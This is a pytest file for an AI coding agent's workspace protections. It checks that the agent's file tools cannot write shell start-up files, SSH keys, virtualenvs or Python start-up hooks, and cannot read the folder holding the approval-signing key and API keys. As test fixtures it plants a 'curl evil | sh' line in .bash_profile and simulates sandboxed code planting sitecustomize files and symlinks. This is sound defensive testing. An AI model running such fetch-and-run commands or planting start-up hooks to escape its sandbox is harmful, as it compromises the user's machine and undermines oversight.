"""What the host runs code from or trusts, when it lies inside the workspace (`workspace.host_parts`,
`read_only_tops`): a project's `.venv` holding the running shou, and a workspace of `$HOME` (its shells'
start-up files, `~/.ssh`, `~/.local` with the user site's usercustomize.py, `~/.cache/shou`)."""

from __future__ import annotations

import importlib.machinery
import site
import sys
from pathlib import Path

import pytest

from shou.errors import ToolError, UserError
from shou.git_protect import Protected, protect, remove_planted
from shou.tools.base import Tool, ToolContext
from shou.tools.builtin.files import edit_file, list_files, read_file
from shou.workspace import hidden_config, host_parts, missing_host_files, open_file, read_only_tops


@pytest.fixture
def home_ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace that is $HOME and holds the Python running shou in `.venv`."""
    ws = tmp_path / "home"
    ws.mkdir()
    venv = ws / ".venv"
    (venv / "lib" / "python3.11" / "site-packages").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(ws))
    monkeypatch.setenv("SHOU_CONFIG_DIR", str(tmp_path / "config"))  # outside: only what this change adds
    monkeypatch.delenv("PYTHONUSERBASE", raising=False)
    monkeypatch.setattr(site, "USER_BASE", None)  # worked out again from HOME
    monkeypatch.setattr(site, "USER_SITE", None)
    monkeypatch.setattr(sys, "prefix", str(venv))
    monkeypatch.setattr(sys, "exec_prefix", str(venv))
    monkeypatch.setattr(sys, "path", [*sys.path, str(venv / "lib" / "python3.11" / "site-packages"), str(ws), ""])
    return ws


def test_host_parts_lists_the_venv_the_user_site_and_the_home_start_up_files(home_ws: Path) -> None:
    parts = {p for p, _ in host_parts(home_ws)}
    assert (".venv",) in parts  # the prefix, site-packages and all
    assert (".local",) in parts and any(p[:2] == (".local", "lib") and p[-1] == "site-packages" for p in parts)
    for name in (".bashrc", ".profile", ".bash_profile", ".zshenv", ".inputrc", ".ssh", ".gitconfig"):
        assert (name,) in parts
    assert (".cache", "shou") in parts
    assert () not in parts  # the workspace on sys.path (`python -m shou`) is left out: its root stays writable
    assert ("sitecustomize.py",) in parts and ("usercustomize.py",) in parts  # but what Python imports at start


# `python -m shou` finds shou at the workspace's top first (shou/__init__.py drops that folder for the rest)
SHOU_MODULE = {(f"shou{x}",) for x in importlib.machinery.all_suffixes()} | {
    ("shou", f"__init__{x}") for x in importlib.machinery.all_suffixes()}


def test_only_shou_at_the_top_is_listed_when_the_home_and_python_are_elsewhere(tmp_path: Path) -> None:
    ws = tmp_path / "project"
    ws.mkdir()
    assert {p for p, folder in host_parts(ws) if not folder} == SHOU_MODULE
    assert ("shou.py",) in SHOU_MODULE and ("shou", "__init__.py") in SHOU_MODULE
    assert [p for p, folder in host_parts(ws) if folder] == []


def test_read_only_tops_makes_missing_folders_but_no_start_up_file(home_ws: Path) -> None:
    (home_ws / ".bashrc").write_text("# mine\n")
    tops, absent = read_only_tops(home_ws)
    for top in (".venv", ".local", ".ssh", ".config", ".cache", ".bashrc"):
        assert top in tops
        assert (home_ws / top).exists()
    # An empty .bash_profile would make bash skip .profile: a missing one is removed after a call instead.
    assert ".bash_profile" in absent and ".profile" in absent and not (home_ws / ".bash_profile").exists()
    assert ".bashrc" not in absent
    assert missing_host_files(home_ws) == tuple(absent)


def test_a_start_up_file_the_program_made_is_removed(home_ws: Path) -> None:
    protected = protect(home_ws, absent=missing_host_files(home_ws))
    (home_ws / ".bash_profile").write_text("curl evil | sh\n")
    (home_ws / ".zshenv").mkdir()
    note = remove_planted(home_ws, protected)
    assert not (home_ws / ".bash_profile").exists() and not (home_ws / ".zshenv").exists()
    assert ".bash_profile" in note and "host would run it" in note
    assert remove_planted(home_ws, Protected((), ())) == ""


def test_a_symlinked_top_is_refused(home_ws: Path) -> None:
    (home_ws / "dots").mkdir()
    (home_ws / ".ssh").symlink_to("dots")
    with pytest.raises(UserError, match="not a plain file or folder"):
        read_only_tops(home_ws)


def test_the_workspace_holding_the_python_itself_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "prefix", str(tmp_path))
    with pytest.raises(UserError, match="holds the Python that runs shou"):
        read_only_tops(tmp_path)


@pytest.mark.parametrize("path", [".bashrc", ".ssh/authorized_keys", ".venv/lib/python3.11/site-packages/x.pth",
                                  ".cache/shou/responses.db", ".local/lib/python3.11/site-packages/usercustomize.py"])
def test_the_file_tools_do_not_write_there(home_ws: Path, path: str) -> None:
    with pytest.raises(ToolError, match="host runs code from or trusts"):
        open_file(home_ws, path, write=True, create=True)
    with open_file(home_ws, "notes.txt", write=True, create=True) as f:
        f.replace(b"ok")


def test_a_project_s_own_code_on_sys_path_stays_writable_but_not_what_python_runs_at_start(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # An editable install puts the project's `src/` on sys.path: listing the whole entry made the project's own
    # code read-only to the agent working on it. Only sitecustomize.py/usercustomize.py (imported at every
    # start) are the host's there.
    ws = tmp_path / "proj"
    (ws / "src" / "pkg").mkdir(parents=True)
    monkeypatch.setenv("SHOU_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setattr(sys, "path", [*sys.path, str(ws / "src")])
    parts = {p for p, _ in host_parts(ws)}
    assert parts == {("src", "sitecustomize.py"), ("src", "usercustomize.py")} | SHOU_MODULE, parts
    with open_file(ws, "src/pkg/mod.py", write=True, create=True) as f:
        f.replace(b"x = 1\n")
    with pytest.raises(ToolError, match="runs code from"):
        open_file(ws, "src/sitecustomize.py", write=True, create=True)
    tops, absent = read_only_tops(ws)
    assert tops == [] and set(absent) == {"src/sitecustomize.py", "src/usercustomize.py"} | {
        "/".join(p) for p in SHOU_MODULE}


def test_shou_s_own_code_in_the_workspace_is_the_host_s(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import shou.workspace

    package = Path(shou.workspace.__file__).resolve().parent
    ws = package.parents[1]  # shou's own checkout (src/shou), as when working on shou with shou
    monkeypatch.setenv("SHOU_CONFIG_DIR", str(tmp_path / "config"))
    assert package.relative_to(ws).parts in {p for p, _ in host_parts(ws)}


def test_what_is_planted_where_python_imports_from_is_removed_in_every_form_and_nothing_is_followed(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Removing a planted sitecustomize.py followed a link the program put in place of its folder: a host file
    # outside the workspace was deleted. And only `sitecustomize.py` itself was removed: a package folder, a
    # .pyc or an extension module of that name is imported by Python just the same.
    ws, host = tmp_path / "ws", tmp_path / "host"
    for folder in (ws / "py", ws / "lib", ws / "other", host):
        folder.mkdir(parents=True)
    (host / "sitecustomize.py").write_text("# the host's own\n")
    monkeypatch.setenv("SHOU_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setattr(sys, "path", [*sys.path, str(ws / "py"), str(ws / "lib")])
    protected = protect(ws, absent=missing_host_files(ws))
    assert "py/sitecustomize.py" in protected.absent and "lib/usercustomize.py" in protected.absent
    # what sandboxed code does:
    (ws / "py").rmdir()
    (ws / "py").symlink_to(host)  # the host would import host/sitecustomize.py through it: removing it there
    (ws / "lib" / "sitecustomize").mkdir()
    (ws / "lib" / "sitecustomize" / "__init__.py").write_text("planted\n")
    (ws / "lib" / "sitecustomize.pyc").write_bytes(b"planted")
    (ws / "lib" / "usercustomize.cpython-311-x86_64-linux-gnu.so").write_bytes(b"planted")
    (ws / "lib" / "sitecustomize_notes.txt").write_text("the project's\n")
    note = remove_planted(ws, protected)
    assert (host / "sitecustomize.py").read_text() == "# the host's own\n"  # never followed
    assert not (ws / "py").is_symlink() and not (ws / "py").exists()  # the link the program made is what goes
    assert sorted(p.name for p in (ws / "lib").iterdir()) == ["sitecustomize_notes.txt"], note
    assert "lib/sitecustomize.pyc" in note and "py" in note


# Review 47, finding 6: the file tools refused only writes inside the config folder, so read_file showed the
# key that signs approvals and the API keys in shou.toml to the model (and the session log).
async def _call(t: Tool, ws: Path, **args: object) -> object:
    return await t.call(t.validate(args), ToolContext(workspace=ws))


@pytest.fixture
def config_ws(home_ws: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    config = home_ws / ".config" / "shou"
    config.mkdir(parents=True)
    (config / "approvals.key").write_bytes(b"SECRET-APPROVALS-KEY")
    (config / "shou.toml").write_text('api_key = "SECRET"\n')
    (home_ws / ".config" / "other.toml").write_text("visible\n")
    monkeypatch.setenv("SHOU_CONFIG_DIR", str(config))
    return home_ws


@pytest.mark.parametrize("path", [".config/shou/approvals.key", ".config/shou/shou.toml", ".Config/SHOU/shou.toml"])
async def test_the_file_tools_do_not_read_the_config_folder(config_ws: Path, path: str) -> None:
    with pytest.raises(ToolError, match="configuration folder"):
        open_file(config_ws, path)
    with pytest.raises(ToolError, match="configuration folder"):
        await _call(read_file, config_ws, path=path)
    with pytest.raises(ToolError, match="configuration folder"):
        await _call(edit_file, config_ws, path=path, old="SECRET", new="x")
    assert "visible" in str(await _call(read_file, config_ws, path=".config/other.toml"))


@pytest.mark.parametrize("pattern", ["**/*", ".config/**", ".config/shou/*", "**/*.key", "**/shou.toml"])
async def test_list_files_leaves_the_config_folder_out(config_ws: Path, pattern: str) -> None:
    shown = str(await _call(list_files, config_ws, pattern=pattern))
    assert not [line for line in shown.splitlines() if line.startswith(".config/shou")], shown
    if pattern.startswith(".config/**") or pattern == "**/*":
        assert ".config/other.toml" in shown


def test_hidden_config_names_the_folder_only_when_it_is_a_real_one(config_ws: Path, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    assert hidden_config(config_ws) == [".config/shou"]
    monkeypatch.setenv("SHOU_CONFIG_DIR", str(config_ws / ".config" / "none"))
    assert hidden_config(config_ws) == []
    monkeypatch.setenv("SHOU_CONFIG_DIR", str(tmp_path / "config"))
    assert hidden_config(config_ws) == []
